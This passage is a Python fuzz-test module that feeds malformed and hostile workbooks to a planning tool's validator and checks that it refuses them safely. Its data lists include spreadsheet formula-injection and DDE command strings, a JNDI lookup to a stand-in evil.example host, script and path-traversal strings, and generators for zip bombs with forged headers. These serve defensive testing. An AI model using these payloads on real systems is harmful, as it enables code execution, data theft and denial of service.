"""Fuzz test of the input gate (issue 8 section 2; issue 13 sections 2, 3, 5, 6).

Hypothesis draws malformed workbooks, one mutation class per test, from a tiny valid plan (two sites, a route,
16 GPUs of the default catalog) and runs ``designer validate FILE`` and ``designer solve FILE -o out
--time-limit 20`` on each. Each run is ``designer.cli.main`` in a process forked from a clean fork server that
has the designer imported: a hang or a runaway allocation is stopped and reported instead of stopping the
suite, and each run's peak memory is its own.

Every case, whatever its class: exit 0 or 2 from validate and 0, 2 or 3 from solve, 2 from both or from
neither, with the same problems; no traceback, no Python exception name and no control character in the
output; every problem line names a sheet and cell (``sheet!A1 column: ...``), a sheet or column of the
workbook (a missing sheet or column), or the file (``workbook: ...``), and says the fix; validate writes
nothing, and neither does a solve that exits 2; a solve that exits 0 or 3 writes design.json, and a written
design.xlsx holds no formula and the CSVs no field a spreadsheet would run; at most 1 GB of memory.
Classes whose every case is invalid also need exit 2 from both within seconds, a problem naming the mutated
cell (or sheet, column, or the file), and exactly one file-level line for files that are not workbooks.
Class rules are on the classes below.

CI runs a derandomized sample of each class (about a minute); ``DESIGNER_FUZZ_EXAMPLES=N`` draws N cases over
the classes, fresh each run, and prints a table: cases per class, failures, slowest case, most memory.
"""

from __future__ import annotations

import builtins
import copy
import csv
import io
import math
import multiprocessing
import os
import re
import sys
import time
import traceback
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from hypothesis import Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from designer.errors import printable
from designer.inputs.catalog import CATALOG_DIR
from designer.inputs.schema import CATALOG_SHEETS, SHEETS
from designer.inputs.writer import build_workbook

LONG = int(os.environ.get("DESIGNER_FUZZ_EXAMPLES") or 0)
CI_EXAMPLES = 2  # drawn per class, derandomized, beside EXAMPLES: about a minute for the module on two cores
TIME_LIMIT = "20"
REFUSE_SECONDS = 15  # an input refused answers within seconds (issue 8 section 2, issue 13 section 2)
MEMORY_MB = 1024  # memory under 1 GB for any input (issue 13 section 2)
KILL_SECONDS = 300  # a run still going after this is stopped and counted as hung
KILL_MB = 2048  # a run above this is stopped (the machine is shared), and fails the memory bound
PRELOAD = ["designer.cli", "designer.inputs.workbook", "designer.solve.run", "designer.solve.diagnose",
           "designer.audit.checks", "designer.audit.resilience", "designer.outputs.export",
           "designer.outputs.report", "designer.outputs.cabling", "designer.outputs.summary"]

SITE = {"power_mw": 5, "pue": 1.3, "max_nodes": 64, "fixed_cost_usd": 1e6, "power_cost_usd_per_mw": 1e6,
        "energy_usd_per_mwh": 60}
BASE = {"project": {"gpus_required": 16, "node_type": "DGX H100"},
        "sites": [{"name": "alpha", **SITE}, {"name": "beta", **SITE}],
        "routes": [{"site_a": "alpha", "site_b": "beta", "distance_km": 60, "fiber_pairs": 4,
                    "fiber_cost_usd_per_pair_km": 1000}]}
WORKLOAD = {"model_params_billion": 1, "step_compute_ms": 500, "max_comm_fraction": 0.5}
VALUE_SHEETS = ("project", "sites", "routes", "workload", *CATALOG_SHEETS)

_EXCEPTIONS = sorted(n for n in dir(builtins) if isinstance(getattr(builtins, n), type)
                     and issubclass(getattr(builtins, n), BaseException))
LEAK = re.compile(r"Traceback \(most recent call last\)|\b[A-Z]\w*(?:Error|Exception|Warning)\b|\b(?:"
                  + "|".join(_EXCEPTIONS + ["BadZipFile", "ParseError", "DTDForbidden", "EntitiesForbidden",
                                            "ExternalReferenceForbidden", "NotSupportedError"]) + r")\b")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # terminal controls (escape, bell, CR, C1, ...)
PROBLEMS = re.compile(r"^error: (\d+) problem\(s\) in the input:$", re.MULTILINE)
WHERE = re.compile(r"(?:!(?P<column>[A-Z]{1,3})(?P<row>[0-9]+))?(?: [a-z_]+)?: \S")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- cases -------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One drawn input: a workbook built from ``tables`` then changed by ``book`` steps (openpyxl) and ``parts``
    steps (the zip's parts), or a file written by ``file``.

    ``expect``: ``refuse`` (exit 2 from both, within seconds), ``valid`` (validate 0, solve 0), ``one`` (valid,
    or exactly one problem), ``any`` (the rules every case meets). A problem line must start with one of
    ``names`` (when given); ``single``: exactly one problem, file-level. ``titles``: sheet titles the file
    holds beyond the schema's. ``hostile``: a name report.html must hold escaped."""

    kind: str
    what: str
    expect: str = "refuse"
    names: tuple[str, ...] = ()
    tables: tuple[str, ...] = ()  # sheets added to BASE: "workload" or a default catalog table
    book: tuple[Callable, ...] = ()
    parts: tuple[Callable, ...] = ()
    file: Callable | None = None
    single: bool = False
    titles: tuple[str, ...] = ()
    hostile: str = ""

    def __repr__(self) -> str:
        return f"[{self.kind}] {self.what}"


@cache
def default_rows(name: str) -> tuple[dict, ...]:
    """A default catalog table as rows with numbers typed, as a planner's sheet would hold it."""
    with open(CATALOG_DIR / f"{name}.csv", newline="", encoding="utf-8-sig") as handle:
        return tuple({k: _typed(v) for k, v in row.items()} for row in csv.DictReader(handle))


def _typed(text: str):
    for kind in (int, float):
        try:
            return kind(text)
        except ValueError:
            pass
    return text or None


def tables_of(extra: tuple[str, ...]) -> dict:
    tables = copy.deepcopy(BASE)
    for name in extra:
        tables[name] = dict(WORKLOAD) if name == "workload" else [dict(r) for r in default_rows(name)]
    return tables


@cache
def layout(extra: tuple[str, ...]) -> dict[str, list[list]]:
    """Each sheet's cell values (rows of the grid) as written from BASE plus ``extra``."""
    book = build_workbook(tables_of(extra))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


def build(case: Case, path: Path) -> None:
    """Write the case's file at ``path``."""
    if case.file:
        case.file(path)
        return
    path.write_bytes(workbook_bytes(case))


def workbook_bytes(case: Case) -> bytes:
    book = build_workbook(tables_of(case.tables))
    for step in case.book:
        step(book)
    buffer = io.BytesIO()
    book.save(buffer)
    parts = Parts.read(buffer.getvalue(), book.sheetnames)
    for step in case.parts:
        step(parts)
    return parts.write()


@dataclass
class Parts:
    """A workbook's zip parts by name (bytes, or a callable yielding chunks for a part too large to hold)."""

    data: dict
    sheet: dict[str, str]

    @classmethod
    def read(cls, blob: bytes, titles: list[str]) -> Parts:
        with zipfile.ZipFile(io.BytesIO(blob)) as z:
            data = {n: z.read(n) for n in z.namelist()}
        return cls(data, {t: f"xl/worksheets/sheet{i + 1}.xml" for i, t in enumerate(titles)})

    def write(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.data.items():
                if callable(data):
                    with z.open(name, "w", force_zip64=True) as part:
                        for chunk in data():
                            part.write(chunk)
                else:
                    z.writestr(name, data)
        return buffer.getvalue()

    def edit(self, title: str, old: bytes, new: bytes) -> None:
        name = self.sheet[title]
        assert old in self.data[name], (title, old[:80])
        self.data[name] = self.data[name].replace(old, new, 1)


def token(ref: str) -> str:
    return f"FUZZ{ref}TOKEN"


def raw_cell(ref: str, kind: str, text: str) -> bytes:
    """A cell's XML as a hostile file may hold it: ``n`` number text, ``s`` inline text, ``b`` boolean,
    ``e`` error value, ``f`` formula with no calculated value."""
    t = escape(text)
    return {"n": f'<c r="{ref}"><v>{t}</v></c>',
            "s": f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{t}</t></is></c>',
            "b": f'<c r="{ref}" t="b"><v>{t}</v></c>', "e": f'<c r="{ref}" t="e"><v>{t}</v></c>',
            "f": f'<c r="{ref}"><f>{t}</f></c>'}[kind].encode()


def placeholder(ref: str) -> bytes:
    """The XML openpyxl writes for the cell ``ref`` holding ``token(ref)``."""
    return f'<c r="{ref}" t="inlineStr"><is><t>{token(ref)}</t></is></c>'.encode()


def set_raw(title: str, ref: str, kind: str, text: str) -> tuple[Callable, Callable]:
    """A book step that marks the cell and a parts step that replaces it with the raw XML."""

    def mark(book):
        book[title][ref] = token(ref)

    def replace(parts):
        parts.edit(title, placeholder(ref), raw_cell(ref, kind, text))

    return mark, replace


def shown(kind: str, text: str) -> str:
    return {"n": "number", "s": "text", "b": "boolean", "e": "error", "f": "formula"}[kind] + f" {text[:60]!r}"


# --- value classes: one cell of a typed column gets a value no plan has ------------------------------------

def numeric(f) -> bool:
    return f.type in ("int", "float")


def lower_bound(f) -> float | None:
    return max((b for b in (f.gt, f.ge) if b is not None), default=None)


def below(f, value: float) -> bool:
    return (f.gt is not None and value <= f.gt) or (f.ge is not None and value < f.ge)


WRONG_TEXT = ["abc", "ten", "50k", "1.2.3", "N/A", "--5", "1e", "0x10", "\u0661\u0662", "5 miles", "1,2", "TRUE",
              "#", "5 5", "1/2", "5e5e5"]
PORT_MODES_BAD = ["64x", "abc", "64x800,32x800", "0x400", "64 by 800", "64x800;128x400", "-64x400", "64x400x2"]
PORT_MODES_HUGE = ["99999999999999999999x400", "64x99999999999999999999", "99999999999999999999x400,64x800",
                   "100000x400", "1" + "0" * 400 + "x400"]
HUGE = [("n", "1e308"), ("n", "1E+308"), ("n", "1.7976931348623157e308"), ("n", "1" + "0" * 30),
        ("n", "9" * 400), ("n", "-1e308"), ("n", "1e400"), ("s", "1e308"), ("s", "99999999999999999999"),
        ("s", "1" + "0" * 400)]
NAN_INF = [("n", "NaN"), ("n", "nan"), ("n", "INF"), ("n", "inf"), ("n", "-inf"), ("n", "Infinity"),
           ("n", "-Infinity"), ("n", "1e999"), ("s", "NaN"), ("s", "inf"), ("s", "\u221e"), ("s", "-Infinity"),
           ("s", "nan%")]
NEGATIVE_ZERO = ["0", "-0", "-1", "-0.001", "-1e-09", "-100000", "-5e300"]
FORMULAS = ["1/0", "SUM(B2:B3)", "NOW()", "A1*2", 'HYPERLINK("http://evil.example/","x")', 'INDIRECT("A"&1)',
            "'[1]Sheet1'!A1", "_xlfn.LET(x,1,x)", "RAND()"]
ERRORS = ["#DIV/0!", "#REF!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "#GETTING_DATA"]


def wrong_values(f) -> list[tuple[str, str]]:
    if f.name == "port_modes":
        return [("s", v) for v in PORT_MODES_BAD] + [("n", "64")]
    if numeric(f):
        return [("s", v) for v in WRONG_TEXT] + [("b", "1"), ("b", "0")]
    if f.type == "enum":
        return [("s", "fastest"), ("n", "42"), ("s", "min-cost!"), ("b", "1"), ("s", "infiniband ethernet")]
    if f.type == "bool":
        return [("s", "perhaps"), ("n", "2"), ("n", "0.5"), ("s", "si"), ("s", "ja nee")]
    if f.type == "names" or f.ref:
        return [("s", "no_such_name"), ("s", "ring,torus"), ("n", "7")]
    return []


def applicable(kind: str, f) -> list[tuple[str, str]]:
    """The raw values of ``kind`` that make field ``f`` invalid (none: the field is not a target)."""
    if kind == "wrong_type":
        return wrong_values(f)
    if kind == "huge":
        return [("s", v) for v in PORT_MODES_HUGE] if f.name == "port_modes" else HUGE if numeric(f) else []
    if kind == "nan_inf":
        return NAN_INF if numeric(f) else []
    if kind == "negative_zero":
        low = lower_bound(f)
        return [("n", v) for v in NEGATIVE_ZERO if below(f, float(v))] if numeric(f) and low is not None \
            and low >= 0 else []
    if kind == "formula_error":
        return [("f", v) for v in FORMULAS] + [("e", v) for v in ERRORS]
    raise AssertionError(kind)


@st.composite
def value_case(draw, kind: str) -> Case:
    """One cell of a field gets an invalid raw value."""
    sheet = draw(st.sampled_from([s for s in VALUE_SHEETS if any(applicable(kind, f) for f in SHEETS[s].fields)]))
    f = draw(st.sampled_from([f for f in SHEETS[sheet].fields if applicable(kind, f)]))
    raw = draw(st.sampled_from(applicable(kind, f)))
    return cell_case(kind, sheet, f.name, raw, draw(st.integers(2, len(layout(extras(sheet))[sheet]))))


def extras(sheet: str) -> tuple[str, ...]:
    return () if sheet in BASE else (sheet,)


def cell_case(kind: str, sheet: str, name: str, raw: tuple[str, str], row: int = 2) -> Case:
    """Field ``name`` of ``sheet`` (present, or added as a column or key) holding ``raw`` in data row ``row`` (a
    table) or its key's row: the problem must name that cell."""
    grid = layout(extras(sheet))[sheet]
    steps = []
    if SHEETS[sheet].kind == "keys":
        keys = [r[0] for r in grid]
        row = keys.index(name) + 1 if name in keys else len(grid) + 1
        ref = f"B{row}"
        if name not in keys:
            steps.append(lambda book: book[sheet].cell(row, 1, name))
    else:
        column = grid[0].index(name) + 1 if name in grid[0] else len(grid[0]) + 1
        ref = f"{get_column_letter(column)}{row}"
        if name not in grid[0]:
            steps.append(lambda book: book[sheet].cell(1, column, name))
    mark, replace = set_raw(sheet, ref, *raw)
    return Case(kind, f"{sheet}!{ref} {name} = {shown(*raw)}", names=(f"{sheet}!{ref}",), tables=extras(sheet),
                book=(*steps, mark), parts=(replace,))


# --- structure classes: merged cells, duplicated headers, a title row, sheets, columns --------------------

STRUCTURE_SHEETS = ("project", "sites", "routes")


@st.composite
def merged_case(draw) -> Case:
    """A merge over cells holding values (every base cell is required): their values are lost, and a problem
    names a covered cell, or the column whose header was covered."""
    sheet = draw(st.sampled_from(STRUCTURE_SHEETS))
    grid = layout(())[sheet]
    rows, columns = len(grid), len(grid[0])
    down = draw(st.booleans()) and rows > 1
    row = draw(st.integers(1, rows - 1 if down else rows))
    column = draw(st.integers(1, columns if down else columns - 1))
    span = draw(st.integers(1, (rows - row) if down else min(2, columns - column)))
    last = (row + span, column) if down else (row, column + span)
    area = f"{get_column_letter(column)}{row}:{get_column_letter(last[1])}{last[0]}"
    covered = [(r, c) for r in range(row, last[0] + 1) for c in range(column, last[1] + 1)][1:]
    names = [f"{sheet}!{get_column_letter(c)}{r}" for r, c in covered]
    names += [f"{sheet} {grid[0][c - 1]}:" for r, c in covered if r == 1]
    return Case("merged", f"{sheet} merge {area}", names=tuple(names),
                book=(lambda book: book[sheet].merge_cells(area),))


@st.composite
def duplicate_case(draw) -> Case:
    """A header (or project key) given twice, the second as written or in another case and spacing: named at
    the second."""
    sheet = draw(st.sampled_from(STRUCTURE_SHEETS))
    grid = layout(())[sheet]
    variant = draw(st.sampled_from([str, str.upper, str.title, lambda s: f" {s} "]))
    if sheet == "project":
        key = draw(st.sampled_from([row[0] for row in grid[1:]]))
        row = len(grid) + 1
        value = grid[[r[0] for r in grid].index(key)][1]
        return Case("duplicate_header", f"project row {row} repeats key {variant(key)!r}", names=(f"project!A{row}",),
                    book=(lambda book: book["project"].append([variant(key), value]),))
    header = grid[0]
    at = draw(st.integers(1, len(header)))
    copied = draw(st.booleans())
    column = len(header) + 1
    ref = f"{get_column_letter(column)}1"

    def step(book):
        ws = book[sheet]
        ws.cell(1, column, variant(header[at - 1]))
        for r in range(2, len(grid) + 1):
            ws.cell(r, column, grid[r - 1][at - 1] if copied else None)

    return Case("duplicate_header", f"{sheet}!{ref} repeats header {variant(header[at - 1])!r}"
                f"{' with its values' if copied else ''}", names=(f"{sheet}!{ref}",), book=(step,))


TITLES = ["Candidate sites", "Q3 plan - draft", "Sites (MW, USD)", "PLAN", "Fiber routes 2025", "Projet \u00e9t\u00e9",
          "\u8a08\u753b"]


@st.composite
def title_case(draw) -> Case:
    return title_row(draw(st.sampled_from(STRUCTURE_SHEETS)), draw(st.sampled_from(TITLES)), draw(st.booleans()))


def title_row(sheet: str, title: str, merge: bool) -> Case:
    """A title in row 1 above the headers, merged across them or not: read (valid), or one problem that says
    where the headers must be (issue 8 section 3)."""
    width = len(layout(())[sheet][0])

    def step(book):
        ws = book[sheet]
        ws.insert_rows(1)
        ws["A1"] = title
        if merge:
            ws.merge_cells(f"A1:{get_column_letter(width)}1")
        assert ws["A2"].value in ("key", "name", "site_a")

    return Case("title_row", f"{sheet}: title {title!r} in row 1{' merged' if merge else ''}", expect="one",
                names=(sheet,), book=(step,))


def rename_sheet(old: str, new: str) -> Callable:
    """A parts step renaming a sheet in workbook.xml (any text, as a file may hold it: char refs for control
    characters)."""
    attr = "".join(c if c.isprintable() or c == " " else f"&#{ord(c)};" for c in escape(new, {'"': "&quot;"}))

    def step(parts):
        xml = parts.data["xl/workbook.xml"]
        assert f'name="{old}"'.encode() in xml
        parts.data["xl/workbook.xml"] = xml.replace(f'name="{old}"'.encode(), f'name="{attr}"'.encode())

    return step


def xml_legal(text: str) -> bool:
    return not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text)


def equivalents(name: str) -> list[str]:
    return [name.upper(), name.title(), f" {name} ", f"{name} "]


def not_equivalents(name: str) -> list[str]:
    return [f"{name}2", f"{name}_old", f"my {name}", "Sheet1", "donn\u00e9es", "\u5de5\u4f5c\u88681", name[:-1],
            f"{name}.", "=SUM(A1)", "@SUM(A1)", "x" * 31, "x" * 300, "x\nsites!B2 power_mw: forged (fix: none)",
            f"{name}\x1b[2J", f"{name}\x07"]


def sheet_cases() -> list[Case]:
    """Sheets missing, renamed, added, duplicated, hidden (issue 8 sections 2 and 3)."""
    cases = [Case("sheets", f"no '{name}' sheet", names=(f"{name}:",), book=(lambda b, n=name: b.remove(b[n]),))
             for name in ("project", "sites")]
    cases.append(Case("sheets", "no 'routes' sheet", expect="valid", book=(lambda b: b.remove(b["routes"]),)))
    for name in STRUCTURE_SHEETS:
        for new in equivalents(name):
            cases.append(Case("sheets", f"'{name}' renamed {new!r}", expect="valid", titles=(new,),
                              parts=(rename_sheet(name, new),)))
        for new in not_equivalents(name):
            names = (f"{printable(new)}:",) if xml_legal(new) else ("workbook:",)
            cases.append(Case("sheets", f"'{name}' renamed {new!r}", names=names, titles=(new,),
                              parts=(rename_sheet(name, new),)))
    for title, content in (("Sheet1", []), ("notes", [["a note"]]), ("routes2", [["site_a"], ["alpha"]]),
                           ("Summary", [["total", "=SUM(A1:A3)"]]), ("donn\u00e9es", [[1, 2, 3]])):
        def add(book, title=title, content=content):
            ws = book.create_sheet(title)
            for row in content:
                ws.append(row)
        cases.append(Case("sheets", f"extra sheet {title!r}", names=(f"{title}:",), titles=(title,), book=(add,)))
    cases.append(Case("sheets", "extra sheet '_scratch'", expect="valid", titles=("_scratch",),
                      book=(lambda b: b.create_sheet("_scratch").append(["anything", 1]),)))
    for name in ("sites", "routes"):
        for title in (name.upper(), f" {name}"):
            cases.append(Case("sheets", f"'{name}' copied as {title!r}", names=(f"{title}:",), titles=(title,),
                              book=(lambda b, n=name: b.copy_worksheet(b[n]),),
                              parts=(rename_sheet(f"{name} Copy", title),)))
    cases.append(Case("sheets", "no sheets at all", names=("project:", "sites:"),
                      parts=(lambda p: p.data.update({"xl/workbook.xml": re.sub(
                          rb"<sheets>.*</sheets>", b"<sheets/>", p.data["xl/workbook.xml"])}),)))
    cases.append(Case("sheets", "'routes' hidden", expect="valid",
                      book=(lambda b: setattr(b["routes"], "sheet_state", "hidden"),)))
    return cases


def column_cases() -> list[Case]:
    """Columns and keys missing, renamed, added, or values without a header (issue 8 sections 2 and 3)."""
    cases = []
    for sheet in ("sites", "routes"):
        header = layout(())[sheet][0]
        width = len(header)
        for at, name in enumerate(header, 1):
            ref = f"{get_column_letter(at)}1"
            cases.append(Case("columns", f"{sheet} column {name!r} deleted", names=(f"{sheet} {name}:",),
                              book=(lambda b, s=sheet, at=at: b[s].delete_cols(at),)))
            for new in (f"{name}2", f"{name}_x", "", "=A1", "notes", f"_{name}", "\u00a0"):
                cases.append(Case("columns", f"{sheet}!{ref} header {name!r} renamed {new!r}",
                                  names=(f"{sheet}!{ref}", f"{sheet} {name}:"),
                                  book=(lambda b, s=sheet, ref=ref, new=new: b[s].__setitem__(ref, new or None),)))
            for new in (name.upper(), f" {name} ", name.title()):
                cases.append(Case("columns", f"{sheet}!{ref} header {name!r} written {new!r}", expect="valid",
                                  book=(lambda b, s=sheet, ref=ref, new=new: b[s].__setitem__(ref, new),)))
        ref = f"{get_column_letter(width + 1)}1"
        for head in ("comment", "price", "Unnamed: 7", "power_mw2", None):
            def add(book, sheet=sheet, head=head, width=width):
                ws = book[sheet]
                ws.cell(1, width + 1, head)
                ws.cell(2, width + 1, "x")
            names = (f"{sheet}!{ref}",)
            cases.append(Case("columns", f"{sheet}!{ref} extra column {head!r} with a value", names=names, book=(add,)))
        for head in ("notes", "_memo", " Notes "):
            def note(book, sheet=sheet, head=head, width=width):
                ws = book[sheet]
                ws.cell(1, width + 1, head)
                ws.cell(2, width + 1, "checked with the landlord")
            cases.append(Case("columns", f"{sheet}!{ref} column {head!r}", expect="valid", book=(note,)))
    for name in ("planes", "nvlink_latency_ns", "source"):
        at = layout(("node_types",))["node_types"][0].index(name) + 1
        cases.append(Case("columns", f"node_types optional column {name!r} deleted", expect="valid",
                          tables=("node_types",), book=(lambda b, at=at: b["node_types"].delete_cols(at),)))
    for row, key in ((2, "gpus_required"), (3, "node_type")):
        for new in ("gpus", f"{key}s", "_" + key, "=A1"):
            cases.append(Case("columns", f"project!A{row} key {key!r} renamed {new!r}",
                              names=(f"project!A{row}", f"project {key}:"),
                              book=(lambda b, ref=f"A{row}", new=new: b["project"].__setitem__(ref, new),)))
        for new in (key.upper(), f" {key} ", key.title()):
            cases.append(Case("columns", f"project!A{row} key {key!r} written {new!r}", expect="valid",
                              book=(lambda b, ref=f"A{row}", new=new: b["project"].__setitem__(ref, new),)))
    for key, value in (("budget", 5), ("gpus_required ", 16), ("Node Type", "DGX H100")):
        cases.append(Case("columns", f"project!A4 extra key {key!r}", names=("project!A4",),
                          book=(lambda b, key=key, value=value: b["project"].append([key, value]),)))
    return cases


# --- hostile names -----------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/","x")', "@SUM(A1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0", "\t=1+1",
           "\r=1+1", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
           "x" * 1000, "y" * 40_000, "Z\u00fcrich", "\u6771\u4eac\u30c7\u30fc\u30bf\u30bb\u30f3\u30bf\u30fc",
           "\U0001f680 site", "\u202egnp.exe", "zero\u200bwidth", "\uff21\uff4c\uff50\uff48\uff41", "a\nb",
           "bell\x07", "esc\x1b[31mred", "nul\x00", "del\x7f", "quote\"';--", "%s%n%x", "CON",
           "a" + "\u0301" * 50, "   ", "\u3000"]


@st.composite
def hostile_case(draw) -> Case:
    name = draw(st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=("Cs",)), min_size=1,
                                                   max_size=40).filter(lambda s: not LEAK.search(s)))
    return named(name, draw(st.sampled_from(["site", "design", "node type"])))


def named(name: str, where: str) -> Case:
    """A hostile name for a site (its route follows), the design, or the node type (the project follows):
    valid or not, the rules every case meets, and a design written holds it as inert text."""
    cells = {"site": [("sites", "A2"), ("routes", "A2")], "design": [("project", "B4")],
             "node type": [("node_types", "A2"), ("project", "B3")]}[where]
    marks, replaces = zip(*(set_raw(sheet, ref, "s", name) for sheet, ref in cells))
    extra = ("node_types",) if where == "node type" else ()
    if where == "design":
        marks = (lambda book: book["project"].cell(4, 1, "name"), *marks)
    if where == "node type":
        assert layout(extra)["node_types"][1][0] == "DGX H100"
    return Case("hostile_names", f"{where} named {name[:80]!r}{'...' if len(name) > 80 else ''}", expect="any",
                tables=extra, book=marks, parts=replaces, hostile=name)


# --- far cells ---------------------------------------------------------------------------------------------

def append_rows(title: str, xml: str) -> Callable:
    return lambda parts: parts.edit(title, b"</sheetData>", xml.encode() + b"</sheetData>")


def cell_in_row(title: str, row: int, xml: str) -> Callable:
    """A parts step adding the cell ``xml`` at the end of row ``row`` of sheet ``title``."""
    def step(parts):
        name = parts.sheet[title]
        parts.data[name], count = re.subn(rf'(<row r="{row}"[^>]*>.*?)</row>'.encode(),
                                          lambda m: m[1] + xml.encode() + b"</row>", parts.data[name], 1, re.DOTALL)
        assert count == 1, (title, row)
    return step


def far_dimension(parts) -> None:
    """The sites sheet's <dimension> claims the whole grid (however the writer spaced the element)."""
    name = parts.sheet["sites"]
    parts.data[name], count = re.subn(rb'<dimension ref="[A-Z0-9:]+"\s*/>', b'<dimension ref="A1:XFD1048576"/>',
                                      parts.data[name], 1)
    assert count == 1


def far_cases() -> list[Case]:
    """One value (or one empty, styled cell) far from the data, written into the sheet XML so the file stays
    small (issue 13 section 2): a value is a problem named at its row or column, or the file refused; an
    empty far cell changes nothing."""
    text = '<c r="{ref}" t="inlineStr"><is><t>far</t></is></c>'
    cases = []
    for sheet in ("project", "sites", "routes"):
        cols = "AB" if sheet == "project" else "ABCDEFG"
        for ref in ("A1048576", "B1048576"):
            row = f'<row r="1048576">{text.format(ref=ref)}</row>'
            cases.append(Case("far_cells", f"{sheet}!{ref} = 'far'",
                              names=tuple(f"{sheet}!{c}1048576" for c in cols) + ("workbook:",),
                              parts=(append_rows(sheet, row),)))
        for ref in ("XFD1048576", "XFD1", "CV2"):
            row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
            step = append_rows(sheet, f'<row r="{row}">{text.format(ref=ref)}</row>') if row == "1048576" \
                else cell_in_row(sheet, int(row), text.format(ref=ref))
            cases.append(Case("far_cells", f"{sheet}!{ref} = 'far'",
                              names=(f"{sheet}!{re.sub('[0-9]+', '1', ref)}", f"{sheet}!{ref}", "workbook:"),
                              parts=(step,)))
        cases.append(Case("far_cells", f"{sheet}: empty styled cell XFD1048576", expect="valid",
                          parts=(append_rows(sheet, '<row r="1048576"><c r="XFD1048576" s="0"/></row>'),)))
        cases.append(Case("far_cells", f"{sheet}: empty row 1048576", expect="valid",
                          parts=(append_rows(sheet, '<row r="1048576" spans="1:16384" ht="15"/>'),)))
    cases.append(Case("far_cells", "sites: dimension A1:XFD1048576", expect="valid", parts=(far_dimension,)))
    far_sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' \
                '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    cases.append(Case("far_cells", "extra sheet 'far' with XFD1048576 = 1", names=("far:", "workbook:"),
                      titles=("far",), book=(lambda b: b.create_sheet("far"),),
                      parts=(lambda parts: parts.data.update({parts.sheet["far"]: far_sheet.encode()}),)))
    cases.append(Case("far_cells", "sites!A99999999 (beyond Excel's rows) = 'far'", names=("workbook:",),
                      single=True,
                      parts=(append_rows("sites", f'<row r="99999999">{text.format(ref="A99999999")}</row>'),)))
    return cases


# --- zip bombs, XML bombs, oversized parts, files that are not workbooks ----------------------------------

MIB = 2**20


def zeros(mib: int) -> Callable:
    return lambda: (b"\0" * MIB for _ in range(mib))


def empty_rows() -> Callable:
    """The rows 4 to 1,048,576 of the sites sheet, each with three empty styled cells (about 150 MB)."""
    def chunks():
        for start in range(4, 1_048_577, 10_000):
            yield "".join(f'<row r="{r}" spans="1:7" ht="15" customHeight="1"><c r="A{r}" s="0"/><c r="B{r}" s="0"/>'
                          f'<c r="C{r}" s="0"/></row>' for r in range(start, min(start + 10_000, 1_048_577))).encode()
    return chunks


def site_rows(count: int, start: int = 2) -> Callable:
    """``count`` valid site rows of sheet XML, streamed."""
    def chunks():
        for first in range(start, start + count, 10_000):
            yield "".join(
                f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>s{r}</t></is></c><c r="B{r}"><v>5</v></c>'
                f'<c r="C{r}"><v>1.3</v></c><c r="D{r}"><v>64</v></c><c r="E{r}"><v>0</v></c><c r="F{r}"><v>0</v>'
                f'</c><c r="G{r}"><v>60</v></c></row>' for r in range(first, min(first + 10_000, start + count))
            ).encode()
    return chunks


def sheet_with(title: str, rows: Callable) -> Callable:
    """A parts step streaming the sheet ``title``: its XML with ``rows`` after the base rows."""
    def step(parts):
        name = parts.sheet[title]
        head, tail = parts.data[name].split(b"</sheetData>")
        parts.data[name] = lambda: (x for chunks in ([head], rows(), [b"</sheetData>" + tail]) for x in chunks)
    return step



def patch_size(blob: bytes, member: str, size: int) -> bytes:
    """The zip with ``member``'s uncompressed size stated as ``size`` in its local and central headers."""
    data = bytearray(blob)
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        offset = z.getinfo(member).header_offset
    data[offset + 22:offset + 26] = size.to_bytes(4, "little")
    central = 0
    while (central := data.find(b"PK\x01\x02", central)) >= 0:
        length = int.from_bytes(data[central + 28:central + 30], "little")
        if data[central + 46:central + 46 + length] == member.encode():
            data[central + 24:central + 28] = size.to_bytes(4, "little")
            return bytes(data)
        central += 4
    raise AssertionError(member)


@cache
def base_bytes() -> bytes:
    return workbook_bytes(Case("base", "the valid base"))


def add_part(name: str, data) -> Callable:
    return lambda parts: parts.data.update({name: data})


def padded_sites(mib: int) -> Callable:
    """A parts step holding the sites sheet with ``mib`` MiB of spaces inside its sheetData, as plain bytes."""
    def step(parts):
        name = parts.sheet["sites"]
        parts.data[name] = parts.data[name].replace(b"<sheetData>", b"<sheetData>" + b" " * (mib * MIB))
    return step


CHUNK = bytes(128 * 1024)
BOMBS: dict[str, Callable[[], bytes]] = {
    "256 MiB of zeros in a part no sheet uses": lambda: workbook_bytes(Case(
        "zip_bomb", "", parts=(add_part("xl/media/image1.png", zeros(256)),))),
    "the sites sheet padded with 200 MiB of spaces": lambda: workbook_bytes(Case(
        "zip_bomb", "", parts=(sheet_with("sites", lambda: (b" " * MIB for _ in range(200))),))),
    "the sites sheet with empty styled rows down to 1,048,576 (about 150 MB)": lambda: workbook_bytes(Case(
        "zip_bomb", "", parts=(sheet_with("sites", empty_rows()),))),
    "a 30 MiB sites part whose zip headers state 1 kB": lambda: patch_size(workbook_bytes(Case(
        "zip_bomb", "", parts=(padded_sites(30),))), "xl/worksheets/sheet2.xml", 1024),
    "2,048 parts of 128 kB of zeros": lambda: workbook_bytes(Case("zip_bomb", "", parts=tuple(
        add_part(f"xl/media/p{i}.bin", CHUNK) for i in range(2048)))),
    "the sites part stated as 4 GB in the zip headers": lambda: patch_size(
